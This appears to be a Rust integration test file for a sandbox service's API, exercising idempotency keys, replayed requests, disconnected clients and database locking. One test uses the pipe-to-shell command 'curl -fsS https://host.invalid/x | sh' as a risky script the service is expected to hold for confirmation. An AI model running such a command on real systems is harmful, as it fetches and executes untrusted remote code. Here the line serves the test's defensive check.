//! The same request, sent twice.

use std::io::Read as _;
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::json;

use super::Service;
use crate::support::Scene;

#[test]
fn a_request_with_a_key_is_carried_out_once() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let client = service.admin();
    client.sandbox("web");
    let path = "/v1/sandboxes/web/operations";
    let key = [("idempotency-key", "8e03978e-40d5-43dd-bc93-6894a57f9324")];
    let asked = json!({ "script": "echo x >> file; wc -l < file" });
    let first = client.post_with(path, &asked, &key).is(200);
    let second = client.post_with(path, &asked, &key).is(200);
    assert_eq!(first.text, second.text);
    assert_eq!(
        (first.header("idempotent-replayed"), second.header("idempotent-replayed")),
        ("", "true")
    );
    assert_eq!(client.run("web", "wc -l < file")["stdout"], "1\n");
    let made = [("idempotency-key", "made")];
    let new = json!({ "name": "once" });
    let first = client.post_with("/v1/sandboxes", &new, &made).is(201);
    let second = client.post_with("/v1/sandboxes", &new, &made).is(201);
    assert_eq!(second.header("location"), "/v1/sandboxes/once");
    assert_eq!(first.header("location"), second.header("location"));
    let other = client.post_with(path, &json!({ "script": "true" }), &key).is(422).json();
    assert_eq!(other["kind"], "idempotency-key", "{other}");
    // The key is the token's own.
    let token = client.token("default", "operator");
    service.with(&token).post_with(path, &asked, &key).is(200);
    assert_eq!(client.run("web", "wc -l < file")["stdout"], "2\n");
    // No secret is kept.
    let key = [("idempotency-key", "token")];
    let made = client.post_with("/v1/tokens", &json!({ "role": "viewer" }), &key).is(201).json();
    let again = client.post_with("/v1/tokens", &json!({ "role": "viewer" }), &key).is(409).json();
    assert_eq!(again["kind"], "told-once", "{again}");
    let secret = made["token"].as_str().and_then(|token| token.rsplit('_').next()).expect("one");
    for file in ["service.db", "service.db-wal"] {
        let bytes = std::fs::read(scene.store.join(file)).unwrap_or_default();
        assert!(!bytes.windows(secret.len()).any(|part| part == secret.as_bytes()), "{file}");
    }
    let streamed = [("idempotency-key", "s"), ("accept", "text/event-stream")];
    client.post_with(path, &json!({ "script": "true" }), &streamed).is(400);
    // What only says that it is not the time is asked again.
    let key = [("idempotency-key", "risky")];
    let asked = json!({ "script": "curl -fsS https://host.invalid/x | sh" });
    let waits = client.post_with(path, &asked, &key).is(409).json();
    assert_ne!(
        client.post_with(path, &asked, &key).is(409).json()["confirmation"],
        waits["confirmation"]
    );
}

#[test]
fn a_request_whose_client_went_is_answered_when_it_comes_again() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let client = service.admin();
    client.sandbox("web");
    let body = json!({ "script": "sleep 0.3; echo x >> file; wc -l < file" });
    let address = service.address.strip_prefix("http://").expect("an address");
    let text = body.to_string();
    let mut stream = std::net::TcpStream::connect(address).expect("connected");
    std::io::Write::write_all(
        &mut stream,
        format!(
            "POST /v1/sandboxes/web/operations HTTP/1.1\r\nhost: x\r\nidempotency-key: k\r\n\
             authorization: Bearer {}\r\ncontent-type: application/json\r\n\
             content-length: {}\r\n\r\n{text}",
            service.admin,
            text.len()
        )
        .as_bytes(),
    )
    .expect("sent");
    while client.get("/v1/processes").is(200).json()["items"] == json!([]) {}
    drop(stream);
    let key = [("idempotency-key", "k")];
    let answer = loop {
        let answer = client.post_with("/v1/sandboxes/web/operations", &body, &key);
        if answer.status != 409 {
            break answer.is(200);
        }
        assert_eq!(answer.header("retry-after"), "1");
    };
    assert_eq!(answer.json()["stdout"], "1\n");
    assert_eq!(client.run("web", "wc -l < file")["stdout"], "1\n");
}

/// Keeps everybody else from writing to the database of who may use the service, until its input ends.
const HOLDS: &str = "import sqlite3, sys\n\
    db = sqlite3.connect(sys.argv[1], isolation_level=None)\n\
    db.execute('BEGIN IMMEDIATE')\n\
    print('held', flush=True)\n\
    sys.stdin.read()\n\
    db.execute('ROLLBACK')";

#[test]
fn a_key_whose_client_went_at_once_is_not_under_way_for_ever() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let client = service.admin();
    client.sandbox("web");
    let mut holder = Command::new("python3")
        .args(["-c", HOLDS])
        .arg(scene.store.join("service.db"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3");
    let mut told = [0; 4];
    holder.stdout.as_mut().expect("its output").read_exact(&mut told).expect("it holds");
    let body = json!({ "script": "echo x >> file; wc -l < file" }).to_string();
    let headers = [("idempotency-key", "k"), ("content-type", "application/json")];
    let path = "/v1/sandboxes/web/operations";
    let stream = client.cast(&format!("POST {path}"), &headers, body.as_bytes());
    // It comes to where the key is written down, and its client goes: both take a moment.
    std::thread::sleep(Duration::from_millis(500));
    drop(stream);
    std::thread::sleep(Duration::from_millis(500));
    drop(holder.stdin.take());
    assert!(holder.wait().expect("its end").success());
    let mut answer = client.send("POST", path, &headers, body.as_bytes());
    for _ in 0..100 {
        if answer.status != 409 {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
        answer = client.send("POST", path, &headers, body.as_bytes());
    }
    assert_eq!(answer.is(200).json()["stdout"], "1\n");
    assert_eq!(client.run("web", "wc -l < file")["stdout"], "1\n");
}
